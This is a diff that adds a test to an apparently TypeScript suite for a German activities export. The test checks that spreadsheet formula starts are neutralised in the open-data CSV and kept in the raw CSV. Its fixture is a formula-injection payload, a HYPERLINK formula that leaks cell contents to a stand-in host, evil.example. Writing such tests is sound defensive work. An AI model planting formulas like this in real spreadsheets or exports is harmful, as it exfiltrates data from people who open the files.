@@ -210,6 +210,21 @@ describe.each(engines)('downloads and calendar feeds on %s', (engine) => {
       expect(internal.body).not.toContain('Feed: eingeschränkt');
     });
 
+    it('neutralise formula starts in the open-data CSV and keep them in the raw CSV for programs', async () => {
+      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")';
+      const id = (await create({ ...base, title: formula, startsOn: '2027-10-01' })).id;
+      const titleOf = async (format: string) => {
+        const res = await get(`/aktivitaeten/export?format=${format}&year=2027`);
+        expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
+        const records: string[][] = parse(res.body, { columns: false });
+        return { title: records.find((r) => r[0] === String(id))![1], res };
+      };
+      expect((await titleOf('csv')).title).toBe(`'${formula}`);
+      const raw = await titleOf('csv-raw');
+      expect(raw.title).toBe(formula);
+      expect(raw.res.headers['content-disposition']).toBe('attachment; filename="aktivitaeten-2026-11-21-raw.csv"');
+    });
+
     it('give open-data CSV, XLSX and JSON of the same rows', async () => {
       const csv = await get('/aktivitaeten/export?format=csv&year=2027');
       expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
